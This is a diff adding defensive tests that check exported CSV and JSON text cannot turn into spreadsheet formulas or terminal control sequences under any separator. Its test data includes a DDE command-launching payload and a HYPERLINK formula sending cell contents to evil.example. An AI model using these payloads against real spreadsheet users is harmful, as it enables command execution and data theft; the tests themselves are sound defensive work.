@@ -170,6 +170,46 @@ def test_fallback_text_has_no_token_at_all() -> None:
     )
 
 
+SEPARATORS = ",;|\t"
+SPLIT = (
+    "a;=1+1;b",
+    "a; =1+1",
+    'a;"=1+1"',
+    'x";"=1+1',
+    'a;""=1+1',
+    "x;@SUM(1+1)*cmd|' /C calc'!A0;",
+    'web;=HYPERLINK("http://evil.example/?"&A1);x',
+    "a|=1+1|b",
+    "a||b",
+    "a\t=1+1\tb",
+    "a,=1+1,b",
+    "a;＝1+1",
+    "a;⁼1",
+    "a;|=1",
+    "a;;-1+1",
+)
+
+
+def assert_no_formula_in(line: str, separator: str) -> None:
+    for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator):
+        assert not any(starts_a_formula(cell.lstrip('" ')) for cell in row), row
+
+
+@pytest.mark.parametrize("separator", SEPARATORS)
+def test_no_formula_whatever_separator_the_spreadsheet_assumes(separator: str) -> None:
+    """A German or French Excel splits the file at “;”, and an import dialogue wherever somebody says."""
+    assert starts_a_formula("=1+1")
+    for text in (*SPLIT, *HOSTILE):
+        assert_no_formula_in(inert.csv_line("i-0abc", text, "eu-central-1"), separator)
+
+
+@settings(max_examples=300)
+@given(st.text("a1;,|\t\"'=+-@ ＝", max_size=12), st.sampled_from(SEPARATORS))
+def test_no_text_becomes_a_formula_where_it_is_split(hostile: str, separator: str) -> None:
+    """Nor any other text."""
+    assert_no_formula_in(inert.csv_line("i-0abc", hostile, "eu-central-1"), separator)
+
+
 def test_csv_file_has_no_formula_and_keeps_its_shape() -> None:
     """Every line is read back with as many cells as were written, none of which computes anything."""
     document = "".join(inert.csv_line(hostile, 7, "web-1", None) for hostile in HOSTILE)
@@ -205,6 +245,8 @@ def test_any_text_is_no_formula(hostile: str) -> None:
         ("", ""),
         (float("-inf"), ""),
         ("i-0abc", "i-0abc"),
+        ("a;=1+1;b", "a;'=1+1;b"),
+        ("Update - x64; R&D, eu", "Update - x64; R&D, eu"),
     ],
 )
 def test_csv_cell(value: str | float | None, cell: str) -> None:
@@ -222,6 +264,33 @@ def test_terminal_and_log_text_is_one_printable_line(hostile: str) -> None:
     assert record.isprintable()
     assert len(record.splitlines()) <= 1
     assert json.loads(json.dumps({"event": record})) == {"event": record}
+
+
+@settings(max_examples=200)
+@given(anything)
+def test_json_for_a_terminal_means_the_same_and_is_printable(hostile: str) -> None:
+    """Control and format characters are escapes; nothing else is touched."""
+    document = json.dumps({"name": hostile}, ensure_ascii=False, indent=2)
+    shown = inert.json_text(document)
+    assert json.loads(shown) == {"name": hostile}
+    assert all(char.isprintable() or char == "\n" for char in shown)
+    assert shown.count("\n") == document.count("\n")
+
+
+@pytest.mark.parametrize(
+    ("raw", "shown"),
+    [
+        ('"Größe 😀"', '"Größe 😀"'),
+        ('"\x9b2J"', '"\\u009b2J"'),
+        ('"a\u2028b\u202e"', '"a\\u2028b\\u202e"'),
+        ('"\U000e0041"', '"\\udb40\\udc41"'),
+        ('"\ud800"', '"\\ud800"'),
+        ('{\n  "a": 1\n}', '{\n  "a": 1\n}'),
+    ],
+)
+def test_json_for_a_terminal_stays_readable(raw: str, shown: str) -> None:
+    """Umlauts and emoji stay; what would move the cursor or turn the line around does not."""
+    assert inert.json_text(raw) == shown
 
 
 def test_log_tells_the_written_from_the_real() -> None:
